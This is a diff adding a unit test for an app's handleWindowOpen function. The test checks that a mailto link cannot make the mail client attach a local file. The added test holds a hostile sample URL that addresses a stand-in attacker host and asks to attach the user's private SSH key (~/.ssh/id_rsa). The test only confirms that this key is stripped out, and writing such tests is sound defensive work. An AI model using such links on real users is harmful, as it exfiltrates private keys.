@@ -81,6 +81,13 @@ describe('hardenWebContents', () => {
 });
 
 describe('handleWindowOpen', () => {
+  it('opens the normalized URL, so a mailto link cannot ask the mail app to attach a local file', async () => {
+    const openExternal = vi.fn(async (_url: string) => {});
+    const verdict = handleWindowOpen('mailto:x@evil.example?attach=~/.ssh/id_rsa&subject=Hi', { isAppPage, openExternal, logger: memoryLogger() });
+    expect(verdict).toEqual({ action: 'deny' });
+    expect(openExternal.mock.calls).toEqual([['mailto:x@evil.example?subject=Hi']]);
+  });
+
   it('logs (without the URL’s path) when the system browser fails', async () => {
     const logger = memoryLogger();
     const openExternal = vi.fn(async () => {
